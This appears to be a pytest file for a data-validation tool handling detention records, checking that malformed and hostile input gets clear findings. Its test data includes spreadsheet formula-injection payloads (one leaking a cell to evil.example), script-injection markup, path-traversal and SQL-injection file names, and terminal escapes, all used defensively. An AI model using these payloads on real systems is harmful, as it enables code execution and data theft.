"""Hostile and careless input (issue 6): each gets a clear finding and exit code, no traceback.

The corpus in tests/fixtures/hostile/ holds small files named after their case; large or
binary cases (huge fields, lines and headers, odd file names, links, workbooks) are made here.
Each file is dropped next to the valid set's file of its dataset (the prefix of its name).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from conftest import AS_OF, FIXTURES, base_rows, sampled, to_csv
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.formula import ArrayFormula
from typer.testing import CliRunner

from toolkit.checks import EXIT_INVALID, EXIT_OK, EXIT_UNUSABLE, validate
from toolkit.cli import app

CORPUS = FIXTURES / "hostile"
U = EXIT_UNUSABLE

#: Corpus file -> (exit code, findings as (rule, row, column, value)) in report order.
EXPECTED = {
    "detentions-control-characters.csv": (1, [
        ("unsafe_text", 2, "notes", "bell\x07 in the text"),
        ("unsafe_text", 3, "location", "Poipet \u202etxet desrever"),
    ]),
    "detentions-cp949.csv": (0, []),
    "detentions-dates-wrong-formats.csv": (1, [
        ("type_date", row, "event_date", value) for row, value in enumerate([
            "14/10/2025", "10/14/2025", "2025/10/14", "20251014", "2025-13-01", "2025-02-30",
            "45944", "2025-10-14T00:00:00", "14 Oct 2025", "2025-1-5", "25-10-14",
            "2025.10.14"], start=2)
    ]),
    "detentions-duplicate-ids-across-files.csv": (1, [
        ("unique", 2, "record_id", "DET-001"),
        ("unique", 3, "record_id", "DET-002"),
        ("unique", 2, "record_id", "DET-001"),
        ("unique", 3, "record_id", "DET-002"),
    ]),
    "detentions-enum-case-slips.csv": (1, [
        ("enum", 2, "reason", "Rescued Victim"),
        ("enum", 3, "date_precision", "Day"),
        ("iso3", 4, "nationality", "vnm"),
        ("iso3", 5, "country", "Thailand"),
    ]),
    "detentions-excel-sep-line.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-formula-injection.csv": (1, [
        ("unsafe_text", 2, "notes", "=cmd|' /C calc'!A0"),
        ("unsafe_text", 3, "location", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("unsafe_text", 4, "admin1", '+HYPERLINK("https://evil.example/?leak="&A1,"click")'),
        ("unsafe_text", 5, "detaining_authority", "-2+3+cmd|' /C calc'!A0"),
    ]),
    "detentions-latin-1.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-markup-injection.csv": (1, [
        ("unsafe_text", 2, "notes", "<script>alert(document.cookie)</script>"),
        ("unsafe_text", 3, "location", '<img src=x onerror="alert(1)">'),
        ("unsafe_text", 4, "detaining_authority", "<!-- hidden -->Police"),
    ]),
    "detentions-misspelt-headers.csv": (1, [
        ("missing_column", 1, "nationality", None),
        ("unknown_column", 1, "nationalty", None),
        ("missing_column", 1, "record_id", None),
        ("unknown_column", 1, "recordid", None),
    ]),
    "detentions-mixed-encodings.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-nul-byte.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-numbers-odd.csv": (1, [
        ("type_integer", 3, "persons", "1,234"),
        ("type_integer", 4, "persons", "99999999999999999999"),
        ("type_integer", 5, "persons", "1e3"),
        ("type_integer", 6, "persons", "３"),
        ("type_integer", 7, "persons", "12 people"),
    ]),
    "detentions-old-excel.xls": (U, [("unsupported_format", None, None, None)]),
    "detentions-png-image.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-semicolon-separated.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-truncated-in-a-quote.csv": (U, [("unreadable_file", None, None, None)]),
    "detentions-truncated-mid-row.csv": (1, [
        ("required", 3, "country", None),
        ("required", 3, "date_precision", None),
        ("type_date", 3, "event_date", "2025-11-0"),
        ("required", 3, "nationality", None),
        ("required", 3, "persons", None),
        ("required", 3, "reason", None),
        ("required", 3, "source_id", None),
    ]),
    "detentions-unquoted-comma.csv": (1, [("ragged_row", 3, None, None)]),
    "detentions-utf-16.csv": (U, [("unreadable_file", None, None, None)]),
    "repatriations-detention-ids-odd.csv": (1, [
        ("id_format", 3, "detention_ids", "DET-002 DET-001"),
        ("id_format", 4, "detention_ids", "DET-002,DET-001"),
    ]),
}

#: The words users see for some of them.
MESSAGES = {
    "detentions-excel-sep-line.csv": "the header must be the first row, but row 2 looks like "
    "the header; delete the 1 row(s) above it",
    "detentions-latin-1.csv": "line 2 is neither UTF-8 nor CP949/EUC-KR text; save the file "
    "as CSV UTF-8, or name its encoding with --encoding",
    "detentions-mixed-encodings.csv": "the file mixes encodings: line 2 is UTF-8 but line 3 is "
    "CP949/EUC-KR; save the whole file as CSV UTF-8",
    "detentions-nul-byte.csv": "line 3 holds a NUL character (byte 0): the file is damaged, or "
    "is not CSV text",
    "detentions-png-image.csv": "the file is a PNG image, not data",
    "detentions-unquoted-comma.csv": "the row has 16 fields but the header has 15; is a comma "
    "inside a value not quoted? The fields after the last column were ignored",
    "detentions-utf-16.csv": "the file is UTF-16 text; save it as CSV UTF-8",
    "repatriations-detention-ids-odd.csv": "'DET-002,DET-001' is not an identifier: use "
    "letters, digits and - . _ : / only, at most 64 characters, starting with a letter or "
    "digit; separate several ids with ';'",
}


def corpus_files() -> list[str]:
    return sorted(p.name for p in CORPUS.iterdir() if p.is_file())


def with_file(make_raw, name: str, content: bytes) -> Path:
    dataset = name.split("-", 1)[0]
    return make_raw(Path(name).stem, {f"{dataset}/{name}": content})


def found(result) -> list[tuple]:
    return [(f.rule, f.row, f.column, f.value) for f in result.report.sorted()]


def test_every_corpus_file_has_an_expected_outcome():
    assert corpus_files() == sorted(EXPECTED)


@pytest.mark.parametrize("name", sampled(sorted(EXPECTED)))
def test_corpus_file_gives_its_findings(name, make_raw):
    raw = with_file(make_raw, name, (CORPUS / name).read_bytes())
    result = validate(raw, AS_OF)
    code, expected = EXPECTED[name]
    assert found(result) == expected
    assert result.report.exit_code == code
    dataset = name.split("-", 1)[0]
    for f in result.report.findings:
        assert f.message and "Traceback" not in f.message
        assert f.file in (f"{dataset}/{name}", f"{dataset}/{dataset}.csv")
    if name in MESSAGES:
        assert MESSAGES[name] in [f.message for f in result.report.findings]


@pytest.mark.slow  # each file again, through the command line
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_corpus_file_on_the_command_line_exits_cleanly(name, make_raw):
    raw = with_file(make_raw, name, (CORPUS / name).read_bytes())
    result = CliRunner().invoke(app, ["validate", "--raw", str(raw), "--as-of",
                                      AS_OF.isoformat()])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code == EXPECTED[name][0]
    assert "Traceback" not in result.output


# --------------------------------------------------------------------------- huge input


DET_HEADER = base_rows("detentions")[0]


def det_line(i: int, **cells) -> dict:
    return {"record_id": f"DET-3{i:02d}", "event_date": f"2025-11-{i:02d}",
            "date_precision": "day", "country": "THA", "nationality": "VNM",
            "persons": str(300 + i), "reason": "other", "source_id": "SRC-001", **cells}


def test_a_huge_field_is_refused_with_its_size(make_raw):
    text = to_csv(DET_HEADER, [det_line(1), det_line(2, notes="x" * 2_000_000)])
    result = validate(with_file(make_raw, "detentions-huge-field.csv", text.encode()), AS_OF)
    [finding] = result.report.findings
    assert (finding.rule, finding.row, finding.column, len(finding.value)) == (
        "too_long", 3, "notes", 120)
    assert finding.message == ("the cell holds 2,000,000 characters, more than the limit of "
                               "10,000; is a quote left open?")


def test_a_huge_line_of_commas_is_one_ragged_row(make_raw):
    text = to_csv(DET_HEADER, [det_line(1), det_line(2)]).rstrip("\n") + "," * 200_000 + "\n"
    result = validate(with_file(make_raw, "detentions-huge-line.csv", text.encode()), AS_OF)
    assert [(f.rule, f.row, f.value) for f in result.report.findings] == [
        ("ragged_row", 3, None)]
    assert result.report.findings[0].message.startswith(
        f"the row has {200_000 + len(DET_HEADER):,} fields but the header has "
        f"{len(DET_HEADER)};")


def test_a_huge_line_without_commas_is_one_too_long_cell(make_raw):
    text = to_csv(DET_HEADER, [det_line(1)]) + "y" * 3_000_000 + "\n"
    result = validate(with_file(make_raw, "detentions-huge-line-no-commas.csv", text.encode()),
                      AS_OF)
    assert ("id_format", 3, "record_id") in [(f.rule, f.row, f.column)
                                             for f in result.report.findings]
    assert result.report.exit_code == EXIT_INVALID


def test_counts_beyond_any_population_are_refused_before_they_are_summed(make_raw):
    """Two counts near the 64-bit limit would overflow the stock; each is refused instead."""
    big = "9000000000000000000"
    text = to_csv(DET_HEADER, [det_line(1, persons=big), det_line(2, persons=big),
                               det_line(3, persons="10000000000")])
    result = validate(with_file(make_raw, "detentions-counts-beyond-any-population.csv",
                                text.encode()), AS_OF)
    assert [(f.rule, f.row, f.value, f.message) for f in result.report.findings] == [
        ("type_integer", row, big, f"'{big}' is too large for a count (the limit is "
         "10,000,000,000)") for row in (2, 3)]
    assert result.tables["detentions"]["persons"].max() == 10_000_000_000


def test_a_huge_header_is_unreadable(make_raw):
    text = ",".join(f"col{i}" for i in range(5_000)) + "\n" + "1," * 4_999 + "1\n"
    result = validate(with_file(make_raw, "detentions-huge-header.csv", text.encode()), AS_OF)
    assert [(f.rule, f.message) for f in result.report.findings] == [
        ("unreadable_file", "the header has 5,000 columns; a return has at most 18: is this the "
         "right file?")]
    assert result.report.exit_code == EXIT_UNUSABLE


# --------------------------------------------------------------------------- file names


@pytest.mark.parametrize("name", sampled([
    "détentions 2025 (copy).csv",
    "detentions ..\\..\\etc\\passwd.csv",
    "'; DROP TABLE detentions;--.csv",
    "-rf --no-preserve-root.csv",
    "detentions..2025.csv",
    "구금 명단 最終.csv",
    "<b onmouseover=alert(1)>.csv",
], every=3))
def test_odd_file_names_are_read_and_named_as_they_are(name, make_raw):
    text = to_csv(DET_HEADER, [det_line(1, persons="0")])
    raw = make_raw("odd-name", {f"detentions/{name}": text})
    result = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.row) for f in result.report.findings] == [
        ("min", f"detentions/{name}", 2)]
    assert result.files["detentions"] == sorted(["detentions/detentions.csv",
                                                 f"detentions/{name}"])


@pytest.mark.parametrize("name, shown", [
    ("detentions\nERROR sources.csv.csv", "detentions/detentions\\nERROR sources.csv.csv"),
    ("detentions\u202evsc.exe.csv", "detentions/detentions\\u202evsc.exe.csv"),
    ("tab\there.csv", "detentions/tab\\there.csv"),
])
def test_file_names_with_control_characters_are_refused_and_shown_escaped(name, shown,
                                                                          make_raw):
    raw = make_raw("control-name", {f"detentions/{name}": to_csv(DET_HEADER, [det_line(1)])})
    result = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.message) for f in result.report.findings] == [
        ("unreadable_file", shown, "the file name contains a control or text-direction "
         "character; rename the file")]
    assert result.report.exit_code == EXIT_UNUSABLE


def test_a_file_name_that_is_not_utf8_is_refused_and_shown_with_its_bytes(make_raw, tmp_path):
    """A zip archive made on Korean Windows names its files in CP949: the file is refused by
    name, shown with its bytes, and nothing is loaded."""
    raw = make_raw("cp949-name")
    source = raw / "detentions" / "x.csv"
    source.write_text(to_csv(DET_HEADER, [det_line(1)]), encoding="utf-8")
    named = os.fsencode(raw / "detentions") + b"/" + "구금".encode("cp949") + b".csv"
    os.rename(os.fsencode(source), named)
    outcome = validate(raw, AS_OF, out_dir=tmp_path / "out")
    assert [(f.rule, f.file, f.message) for f in outcome.report.findings] == [
        ("unreadable_file", "detentions/\\xb1\\xb8\\xb1\\xdd.csv", "the file name is not UTF-8 "
         "(archives made on Korean Windows name files in CP949); rename the file")]
    assert outcome.report.exit_code == EXIT_UNUSABLE and outcome.warehouse is None


def test_a_link_to_a_file_outside_the_raw_folder_is_refused(make_raw, tmp_path):
    secret = tmp_path / "outside" / "secret.csv"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    raw = make_raw("link-outside")
    os.symlink(secret, raw / "detentions" / "detentions-link.csv")
    result = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.message) for f in result.report.findings] == [
        ("unreadable_file", "detentions/detentions-link.csv", "the file is a link to a file "
         "outside the raw data folder; copy the file in instead")]
    assert "root:x" not in result.report.to_json()


def test_a_dataset_folder_linked_outside_the_raw_folder_is_refused(make_raw, tmp_path):
    """As a linked file is: a dataset folder that links elsewhere (``detentions ->
    /somewhere``) must not bring that folder's files into the report."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("root:x:0:0:root:/root:/bin/bash\n")
    raw = make_raw("folder-link-outside")
    shutil.rmtree(raw / "detentions")
    os.symlink(outside, raw / "detentions")
    outcome = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.message) for f in outcome.report.findings] == [
        ("unreadable_file", "detentions/secret.csv", "the file is in a folder that links "
         "outside the raw data folder; copy the files in instead")]
    assert "root:x" not in outcome.report.to_json()


def test_a_link_inside_the_raw_folder_is_read(make_raw):
    raw = make_raw("link-inside", {"archive/q4.csv": to_csv(DET_HEADER, [det_line(1)])})
    os.symlink(raw / "archive" / "q4.csv", raw / "detentions" / "detentions-q4.csv")
    result = validate(raw, AS_OF)
    assert result.report.findings == []
    assert result.tables["detentions"].height == 3


def test_a_folder_inside_a_dataset_folder_is_not_read(make_raw):
    raw = make_raw("subfolder", {"detentions/old.csv/readme.txt": "not data"})
    assert validate(raw, AS_OF).report.findings == []


def test_an_empty_dataset_folder_is_missing_input(make_raw):
    raw = make_raw("empty-folder", drop=["fatalities"])
    result = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.message) for f in result.report.findings] == [
        ("missing_input", "fatalities/",
         f"no fatalities data: the folder {raw.as_posix()}/fatalities holds no data files")]
    assert result.report.exit_code == EXIT_UNUSABLE


def test_a_misnamed_dataset_folder_is_pointed_out(make_raw):
    raw = make_raw("misnamed-folder")
    shutil.move(raw / "repatriations", raw / "repatriation")
    result = validate(raw, AS_OF)
    assert [(f.rule, f.file, f.message) for f in result.report.findings] == [
        ("missing_input", "repatriations/",
         f"no repatriations data: expected a folder {raw.as_posix()}/repatriations; found "
         "'repatriation': is it misnamed?")]


# --------------------------------------------------------------------------- workbooks


def det_cells(i: int, **cells) -> list:
    row = det_line(i, **cells)
    row["event_date"] = dt.date.fromisoformat(row["event_date"])
    if isinstance(row["persons"], str):
        row["persons"] = int(row["persons"])
    return [row.get(h) for h in DET_HEADER]


def book_bytes(build) -> bytes:
    book = openpyxl.Workbook()
    build(book)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


#: The column letter of notes in the detentions header.
NOTES = get_column_letter(DET_HEADER.index("notes") + 1)


def _formulas(book):
    ws = book.active
    ws.append(DET_HEADER)
    ws.append(det_cells(1))
    ws.append(det_cells(2))
    ws["H2"] = "=300+1"
    ws["B3"] = "=TODAY()"
    ws[f"{NOTES}3"] = ArrayFormula(f"{NOTES}3", "=CONCAT(A2:A3)")


def _error_cells(book):
    ws = book.active
    ws.append(DET_HEADER)
    ws.append(det_cells(1))
    ws["H2"] = "#DIV/0!"


def _merged(book):
    ws = book.active
    ws.append(DET_HEADER)
    for i in (1, 2, 3):
        ws.append(det_cells(i))
    ws.merge_cells("D2:D4")  # THA for three rows
    ws.merge_cells(f"{NOTES}2:{NOTES}3")


def _several_sheets(book):
    first = book.active
    first.title = "November"
    first.append(DET_HEADER)
    first.append(det_cells(1))
    second = book.create_sheet("December")
    second.append(DET_HEADER)
    second.append(det_cells(2))
    notes = book.create_sheet("Notes")
    notes.append(["Compiled by the statistics team"])


def _hidden_first_sheet(book):
    hidden = book.active
    hidden.title = "lookup"
    hidden.append(["THA", "Thailand"])
    hidden.sheet_state = "hidden"
    data = book.create_sheet("Sheet2")
    data.append(DET_HEADER)
    data.append(det_cells(1))


def _date_in_a_number_column(book):
    ws = book.active
    ws.append(DET_HEADER)
    ws.append(det_cells(1, persons=dt.date(2025, 11, 1)))


@pytest.mark.parametrize("name, build, code, expected", sampled([
    ("detentions-formulas.xlsx", _formulas, EXIT_INVALID, [
        ("formula_cell", 2, "persons", "=300+1"),
        ("formula_cell", 3, "event_date", "=TODAY()"),
        ("formula_cell", 3, "notes", "=CONCAT(A2:A3)"),
    ]),
    ("detentions-error-cells.xlsx", _error_cells, EXIT_INVALID, [
        ("formula_cell", 2, "persons", "#DIV/0!"),
    ]),
    ("detentions-merged-cells.xlsx", _merged, EXIT_INVALID, [
        ("merged_cells", 2, "country", "D2:D4"),
        ("merged_cells", 2, "notes", f"{NOTES}2:{NOTES}3"),
    ]),
    ("detentions-several-sheets.xlsx", _several_sheets, EXIT_INVALID, [
        ("ignored_sheet", None, None, None),
    ]),
    ("detentions-hidden-first-sheet.xlsx", _hidden_first_sheet, EXIT_OK, []),
    ("detentions-date-in-a-number-column.xlsx", _date_in_a_number_column, EXIT_INVALID, [
        ("type_integer", 2, "persons", "2025-11-01"),
    ]),
], every=3))
def test_hostile_workbooks(name, build, code, expected, make_raw):
    result = validate(with_file(make_raw, name, book_bytes(build)), AS_OF)
    assert found(result) == expected
    assert result.report.exit_code == code


def test_a_several_sheets_workbook_names_the_sheet_left_out(make_raw):
    result = validate(with_file(make_raw, "detentions-several-sheets.xlsx",
                                book_bytes(_several_sheets)), AS_OF)
    assert result.report.findings[0].message == (
        "only sheet 'November' is read, but 'December' also holds detentions rows; put every "
        "row on one sheet (named 'detentions' if the workbook has others)")


def test_a_parquet_file_with_lists_is_unreadable(make_raw):
    buf = io.BytesIO()
    pl.DataFrame({"record_id": ["DET-301"], "persons": [[1, 2]]}).write_parquet(buf)
    result = validate(with_file(make_raw, "detentions-nested.parquet", buf.getvalue()), AS_OF)
    assert [(f.rule, f.message) for f in result.report.findings] == [
        ("unreadable_file", "column 'persons' holds List(Int64) values; a return holds one "
         "plain value per cell")]


# --------------------------------------------------------------------------- odd but valid


def _rows(dataset="detentions"):
    return base_rows(dataset)


def _quoted_all() -> str:
    header, rows = _rows()
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(
        [header] + [[r[h] for h in header] for r in rows])
    return buf.getvalue()


def _spaces() -> str:
    header, rows = _rows()
    return "\n".join(", ".join(f"  {c}  " for c in line.split(","))
                     for line in to_csv(header, rows).replace('"raid on a compound, second wave"',
                                                               "raid").splitlines()) + "\n"


def _multiline_notes() -> str:
    header, rows = _rows()
    rows[0]["notes"] = "first line\nsecond line, with a comma\n\nfourth line"
    return to_csv(header, rows)


def _title_row_workbook() -> bytes:
    header, rows = _rows()

    def build(book):
        ws = book.active
        ws["A1"] = "Detentions reported in October 2025"
        ws.merge_cells("A1:F1")
        ws.append([])
        ws.append(header)
        for r in rows:
            ws.append([int(r[h]) if r[h].isdigit() else (r[h] or None) for h in header])
    return book_bytes(build)


def _ids_with_spaces() -> str:
    header, rows = _rows("repatriations")
    rows[0]["detention_ids"] = "  DET-001 ;  "
    return to_csv(header, rows)


ODD_BUT_VALID = {
    "detentions-columns-reversed.csv": lambda: to_csv(list(reversed(_rows()[0])), _rows()[1]),
    "detentions-crlf.csv": lambda: to_csv(*_rows(), line_end="\r\n"),
    "detentions-bom.csv": lambda: "\ufeff" + to_csv(*_rows()),
    "detentions-bom-crlf.csv": lambda: "\ufeff" + to_csv(*_rows(), line_end="\r\n"),
    "detentions-trailing-blank-lines.csv": lambda: to_csv(*_rows()) + "\n\n\r\n\n",
    "detentions-blank-lines-between-rows.csv": lambda: to_csv(*_rows()).replace(
        "\nDET-002", "\n\n\nDET-002"),
    "detentions-every-cell-quoted.csv": _quoted_all,
    "detentions-multiline-notes.csv": _multiline_notes,
    "detentions-classic-mac-line-ends.csv": lambda: to_csv(*_rows(), line_end="\r"),
    "detentions-spaces-around-values.csv": _spaces,
    "detentions-header-case-and-spaces.csv": lambda: to_csv(
        [h.replace("_", " ").upper() for h in _rows()[0]], [list(r.values()) for r in _rows()[1]]),
    "detentions-no-final-newline.csv": lambda: to_csv(*_rows()).rstrip("\n"),
    "detentions-persons-as-float.csv": lambda: to_csv(*_rows()).replace(
        ",10,2,8,0,", ",10.0,2,8,0,"),
    "detentions-title-row.xlsx": _title_row_workbook,
    "repatriations-ids-with-spaces-and-trailing-semicolon.csv": _ids_with_spaces,
}


@pytest.mark.parametrize("name", sampled(sorted(ODD_BUT_VALID)))
def test_odd_but_valid_input_is_accepted(name, make_raw, valid_reference):
    content = ODD_BUT_VALID[name]()
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    dataset = name.split("-", 1)[0]
    raw = make_raw(Path(name).stem, {f"{dataset}/{name}": data}, drop=[dataset])
    result = validate(raw, AS_OF)
    assert found(result) == []
    assert result.report.exit_code == EXIT_OK
    reference = valid_reference.tables[dataset]
    free_text = ["__file", "__row", "__line", "notes"] + (
        ["detention_ids"] if dataset == "repatriations" else [])
    assert result.tables[dataset].drop(free_text).equals(reference.drop(free_text))


# --------------------------------------------------------------------------- the report itself


def test_terminal_escapes_in_a_header_are_shown_escaped(make_raw):
    header = DET_HEADER + ["\x1b[2J\x1b[31mok"]
    text = to_csv(header, [{**det_line(1), header[-1]: "x"}])
    raw = with_file(make_raw, "detentions-terminal-escape-header.csv", text.encode())
    result = validate(raw, AS_OF)
    assert [(f.rule, f.column) for f in result.report.findings] == [
        ("unknown_column", "\\x1b[2J\\x1b[31mok")]
    cli = CliRunner().invoke(app, ["validate", "--raw", str(raw), "--as-of", AS_OF.isoformat()])
    assert cli.exit_code == EXIT_INVALID
    assert "\x1b" not in cli.stdout


def test_the_csv_report_does_not_run_formulas_from_the_data(make_raw, tmp_path):
    name = "detentions-formula-injection.csv"
    raw = with_file(make_raw, name, (CORPUS / name).read_bytes())
    out = tmp_path / "findings.csv"
    CliRunner().invoke(app, ["validate", "--raw", str(raw), "--as-of", AS_OF.isoformat(),
                             "--report", str(out)])
    with out.open(encoding="utf-8", newline="") as fh:
        values = [r["value"] for r in csv.DictReader(fh)]
    assert values == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
                      "'+HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")",
                      "'-2+3+cmd|' /C calc'!A0"]
